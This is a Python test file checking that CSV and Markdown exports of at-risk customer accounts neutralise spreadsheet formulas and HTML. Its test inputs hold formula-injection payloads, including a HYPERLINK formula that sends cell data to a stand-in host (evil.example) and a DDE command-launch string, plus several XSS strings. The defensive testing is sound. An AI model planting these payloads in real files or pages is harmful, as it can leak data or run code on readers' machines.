"""The at-risk exports treat warehouse text as hostile: no text cell runs as a spreadsheet formula (CSV and Markdown),
numbers stay numbers, and the Markdown neither carries HTML nor breaks its table."""

from __future__ import annotations

import csv
import io
import math
from datetime import date
from html.parser import HTMLParser

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from serving.report.exports import at_risk_csv, at_risk_markdown, neutralise_formula
from serving.report.tables import AT_RISK_COLUMNS

TEXT = ["account_id", "account", "segment", "csm_owner", "risk_tier", "top_reasons", "recommended_action",
        "owner_role", "previous_tier", "renewal", "urgency", "due_by", "playbook", "arm", "no_action_reason"]
NUMBERS = ["mrr", "churn_probability", "probability_change", "expected_mrr_loss", "previous_probability",
           "days_in_tier", "days_to_renewal"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
# text in a cell → (the CSV cell read back, the Markdown cell as written)
SHAPES = {
    HYPERLINK: ("'" + HYPERLINK, "'" + HYPERLINK.replace("&", "&amp;")),
    "+cmd|' /C calc'!A0": ("'+cmd|' /C calc'!A0", "'+cmd\\|' /C calc'!A0"),
    "-2+3": ("'-2+3", "'-2+3"),
    "@SUM(1)": ("'@SUM(1)", "'@SUM(1)"),
    "\t=1": ("'\t=1", "'\t=1"),
    "\r=1": ("'\r=1", "' =1"),
    " =1": ("' =1", "' =1"),
    "\n=1+1": ("'\n=1+1", "' =1+1"),
    "-0.05": ("'-0.05", "'-0.05"),  # text, not a number: a text cell is never read as a formula
    "<script>alert(1)</script>": ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    "<img src=x onerror=alert(1)>": ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
    "&lt;b&gt;": ("&lt;b&gt;", "&amp;lt;b&amp;gt;"),
    "a|b": ("a|b", "a\\|b"),
    "a\\|b": ("a\\|b", "a\\\\\\|b"),
    "[click](javascript:alert(1))": ("[click](javascript:alert(1))", "\\[click\\](javascript:alert(1))"),
    "`code`": ("`code`", "\\`code\\`"),
    "two\nlines": ("two\nlines", "two lines"),
    "Acme, \"Inc\"": ("Acme, \"Inc\"", "Acme, \"Inc\""),
    "'quoted": ("'quoted", "'quoted"),
    "plain text": ("plain text", "plain text"),
    "": ("", ""),
    None: ("", "–"),
}
# numbers in the numeric columns → (the CSV cell, MRR in the Markdown, change in the Markdown); a change is in
# probability units, shown in percentage points
NUMBER_SHAPES = [(-0.05, "-0.05", "-0", "-5.0 pp"), (0.0, "0", "0", "+0.0 pp"),
                 (-1234.5, "-1234.5", "-1,234", "-123450.0 pp"), (math.nan, "", "–", "new"), (None, "", "–", "new")]
AS_OF = date(2025, 5, 1)


def at_risk(text: list, numbers: list) -> pd.DataFrame:
    """An at-risk list with one row per value: every text column holds the text, every number column the number."""
    frame = pd.DataFrame({c: pd.Series(text, dtype=object) for c in TEXT}
                         | {c: pd.Series(numbers, dtype=float) for c in NUMBERS}
                         | {"tier_since": pd.Series([date(2025, 3, 1)] * len(text), dtype=object)})
    return frame[AT_RISK_COLUMNS]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", list(SHAPES), ids=repr)
def test_each_text_cell_of_the_csv_reads_back_exactly_and_never_as_a_formula(value):
    rows = read_csv(at_risk_csv(at_risk([value], [1.0])))
    assert len(rows) == 1
    assert {c: rows[0][c] for c in TEXT} == dict.fromkeys(TEXT, SHAPES[value][0])


def test_no_csv_cell_starts_with_a_formula_character_after_neutralising():
    rows = read_csv(at_risk_csv(at_risk(list(SHAPES), [1.0] * len(SHAPES))))
    starts = [row[c] for row in rows for c in TEXT if row[c].lstrip()[:1] in set("=+-@\t\r")]
    assert starts == []


@pytest.mark.parametrize(("number", "cell", "_money", "_change"), NUMBER_SHAPES, ids=repr)
def test_numbers_stay_numbers_in_the_csv(number, cell, _money, _change):
    rows = read_csv(at_risk_csv(at_risk(["-x"], [number])))
    assert {c: rows[0][c] for c in NUMBERS} == dict.fromkeys(NUMBERS, cell)
    assert rows[0]["account"] == "'-x"
    if cell:
        assert float(cell) == pytest.approx(number)


def test_numbers_held_as_objects_are_not_quoted():
    frame = at_risk(["a"] * 3, [1.0] * 3).astype({"mrr": object})
    frame["mrr"] = [-5, 0, None]
    assert [row["mrr"] for row in read_csv(at_risk_csv(frame))] == ["-5", "0", ""]
    assert [neutralise_formula(v) for v in (-5, -0.05, 0, None)] == [-5, -0.05, 0, None]
    assert math.isnan(neutralise_formula(math.nan))


def markdown_cells(line: str) -> list[str]:
    """The cells of one Markdown table row: split on pipes that no backslash escapes."""
    cells, current, escaped = [], "", False
    for char in line:
        if char == "|" and not escaped:
            cells.append(current)
            current = ""
        else:
            current += char
        escaped = char == "\\" and not escaped
    return [c.strip(" ") for c in cells[1:]]  # the row starts and ends with a pipe


@pytest.mark.parametrize("value", list(SHAPES), ids=repr)
def test_each_text_cell_of_the_markdown_is_written_exactly(value):
    lines = at_risk_markdown(at_risk([value], [1.0]), AS_OF).splitlines()
    assert len(lines) == 5  # title, blank, header, rule, one row: no value breaks a line
    cells = markdown_cells(lines[4])
    assert len(cells) == 18
    text = dict(zip(["account", "segment", "csm_owner"], cells[1:4], strict=True)) | dict(
        zip(["risk_tier", "top_reasons", "recommended_action", "owner_role"], cells[8:12], strict=True)) | {
        "previous_tier": cells[13], "renewal": cells[16], "due_by": cells[17]}
    assert text == dict.fromkeys(text, SHAPES[value][1])


@pytest.mark.parametrize(("number", "_cell", "money", "change"), NUMBER_SHAPES, ids=repr)
def test_numbers_in_the_markdown_are_formatted_not_quoted(number, _cell, money, change):
    cells = markdown_cells(at_risk_markdown(at_risk(["x"], [number]), AS_OF).splitlines()[4])
    assert (cells[4], cells[6], cells[7]) == (money, change, money)


class Rendered(HTMLParser):
    """The tags and the text of each table cell of rendered Markdown."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.rows: list[list[str]] = []
        self._cell = False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [a for a in attrs if a[0] != "style"]  # markdown-it aligns columns with style
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self.rows[-1].append("")
            self._cell = True

    def handle_endtag(self, tag):
        self._cell = self._cell and tag not in ("td", "th")

    def handle_data(self, data):
        if self._cell:
            self.rows[-1][-1] += data


def test_rendered_markdown_shows_each_value_as_text_in_its_own_cell():
    values = list(SHAPES)
    # A renderer that passes raw HTML through, as many Markdown viewers do.
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(
        at_risk_markdown(at_risk(values, [1.0] * len(values)), AS_OF))
    page = Rendered(html)
    assert page.tags == {"h1", "table", "thead", "tbody", "tr", "th", "td"}
    assert page.attributes == []
    rows = page.rows[1:]
    assert len(rows) == len(values) and {len(row) for row in rows} == {18}
    for value, row in zip(values, rows, strict=True):
        expected = "–" if value is None else neutralise_formula(value)
        expected = " ".join(expected.replace("\r", "\n").split("\n")).strip(" \t")
        assert row[1].strip(" \t") == expected, value
